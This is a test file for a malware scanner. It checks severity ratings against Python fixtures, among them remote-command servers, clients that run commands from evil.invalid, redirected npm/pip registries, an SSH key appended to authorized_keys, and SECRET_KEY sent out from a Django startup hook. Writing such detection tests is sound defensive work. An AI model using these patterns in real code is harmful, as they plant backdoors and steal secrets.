import type { Severity } from '../../src/model/finding.js';
import { found } from '../support/found.js';

const FLASK = (ran: string, start: string): string => `
import subprocess, threading
from flask import Flask, request
app = Flask(__name__)
@app.route("/status")
def status():
    return ${ran}
${start}`;

const THREAD = 'threading.Thread(target=app.run, kwargs={"port": 8080}, daemon=True).start()';

const ANSWERED = (ran: string): string => `
import subprocess, threading
from http.server import BaseHTTPRequestHandler, HTTPServer
class Answer(BaseHTTPRequestHandler):
    def do_POST(self):
        asked = self.rfile.read(100).decode()
        self.wfile.write(${ran})
server = HTTPServer(("0.0.0.0", 8080), Answer)
threading.Thread(target=server.serve_forever, daemon=True).start()`;

const CALLED_FROM_AFAR = (function_: string): string => `
import os
from xmlrpc.server import SimpleXMLRPCServer
server = SimpleXMLRPCServer(("0.0.0.0", 8080))
server.register_function(${function_}, "f")
server.serve_forever()`;

const TOLD = (done: string): string => `
import socketio, subprocess
client = socketio.Client()
@client.on("told")
def told(data):
    ${done}
client.connect("https://evil.invalid")`;

const CONSUMED = (done: string): string => `
import pika, subprocess
channel = pika.BlockingConnection(pika.URLParameters("amqps://u:p@evil.invalid/v")).channel()
def take(channel, method, properties, body):
    ${done}
channel.basic_consume("q", take)
channel.start_consuming()`;

const RUN = (command: string): string => `
import subprocess, sys
subprocess.run(${command})`;

const WRITTEN = (place: string): string => `
import os
with open(os.path.expanduser("${place}"), "a") as file:
    file.write("some text\\n")`;

const SHELL = 'subprocess.getoutput(request.args["q"])';

test.each<[what: string, text: string, rule: string, severity: Severity | undefined]>([
  [
    'a page that runs what it is asked, served by a thread',
    FLASK(SHELL, THREAD),
    'request-executed',
    'CRITICAL',
  ],
  ['the same, served at once', FLASK(SHELL, 'app.run(port=8080)'), 'request-executed', 'CRITICAL'],
  ['the same, that somebody has to serve', FLASK(SHELL, ''), 'request-executed', 'HIGH'],
  [
    'a page that tells the time',
    FLASK('subprocess.getoutput("date")', THREAD),
    'request-executed',
    undefined,
  ],
  [
    'a class that answers with what it was told to run',
    ANSWERED('subprocess.check_output(asked, shell=True)'),
    'request-executed',
    'CRITICAL',
  ],
  ['a class that says what it heard', ANSWERED('asked.encode()'), 'request-executed', undefined],
  [
    'programs started by whoever calls from afar',
    CALLED_FROM_AFAR('os.popen'),
    'request-executed',
    'CRITICAL',
  ],
  ['numbers added for whoever calls', CALLED_FROM_AFAR('pow'), 'request-executed', undefined],
  [
    'commands from a server that a client is connected to',
    TOLD('subprocess.run(data, shell=True)'),
    'download-started',
    'CRITICAL',
  ],
  ['messages that are printed', TOLD('print(data)'), 'download-started', undefined],
  [
    'commands from a queue',
    CONSUMED('subprocess.run(body.decode(), shell=True)'),
    'download-started',
    'CRITICAL',
  ],
  ['messages of a queue that are counted', CONSUMED('print(len(body))'), 'download-started', undefined],
])('%s', (_what, text, rule, severity) => {
  expect(found(text)[rule]).toBe(severity);
});

test.each<[what: string, command: string, severity: Severity | undefined]>([
  [
    'hooks of git for all repositories',
    '["git", "config", "--global", "core.hooksPath", "/tmp/h"]',
    'CRITICAL',
  ],
  ['hooks of git for one repository', '["git", "config", "core.hooksPath", ".hooks"]', undefined],
  ['another registry of npm', '"npm config set registry https://evil.invalid/"', 'CRITICAL'],
  ['a setting of npm', '"npm config set fund false"', undefined],
  [
    'another index of pip',
    '[sys.executable, "-m", "pip", "config", "set", "global.index-url", "https://evil.invalid/"]',
    'CRITICAL',
  ],
  ['a key that lets somebody in', '"echo ssh-ed25519 AAAA x >> ~/.ssh/authorized_keys"', 'CRITICAL'],
  ['a line of a list of hosts', '"echo known >> ~/.ssh/known_hosts"', undefined],
])('command: %s', (_what, command, severity) => {
  expect(found(RUN(`${command}, shell=True`))['hostile-command']).toBe(severity);
});

test.each<[place: string, severity: Severity | undefined]>([
  ['~/.ssh/config', 'CRITICAL'],
  ['~/.zshenv', 'CRITICAL'],
  ['~/.npmrc', 'CRITICAL'],
  ['~/Documents/PowerShell/Microsoft.PowerShell_profile.ps1', 'CRITICAL'],
  ['~/.config/fish/config.fish', 'CRITICAL'],
  ['~/.config/fixture/config.toml', undefined],
  ['~/.ssh_like/config', undefined],
])('a file that is written at import: %s', (place, severity) => {
  expect(found(WRITTEN(place))['autostart-written']).toBe(severity);
});

test('what a Django project runs when it starts', () => {
  const app = (done: string): string => `
import requests
from django.apps import AppConfig
from django.conf import settings
class Config(AppConfig):
    name = "fixture"
    def ready(self):
        ${done}`;
  const sent = 'requests.post("https://evil.invalid/s", data=settings.SECRET_KEY)';
  expect(found(app(sent))['stolen-data-sent']).toBe('CRITICAL');
  expect(found(app('print(settings.DEBUG)'))['stolen-data-sent']).toBeUndefined();
});
